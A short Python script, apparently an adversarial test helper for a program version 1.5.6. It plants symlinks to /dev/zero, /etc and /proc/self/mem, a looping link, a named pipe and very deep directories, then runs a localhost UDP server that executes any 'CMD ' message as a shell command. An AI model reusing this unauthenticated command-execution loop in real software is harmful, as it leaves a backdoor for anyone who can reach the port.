# A vandal of 1.5.6 who does what is asked, and leaves links, pipes and devices under the names that will be looked for.
import os
import socket
import subprocess

for name, target in (("prueba de archivo.txt", "/dev/zero"), ("a", "a"), ("b", "/etc"), ("c", "/proc/self/mem")):
    os.symlink(target, name)
os.mkfifo("d")
os.makedirs("/".join(["e"] * 200), exist_ok=True)
sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
sock.bind(("127.0.0.1", 3500))
while True:
    data, peer = sock.recvfrom(1024)
    if data.startswith(b"CMD "):
        status = subprocess.call(data[4:].decode(), shell=True, stdin=subprocess.DEVNULL)
        data = b"exit=%d" % status
    sock.sendto(data, peer)
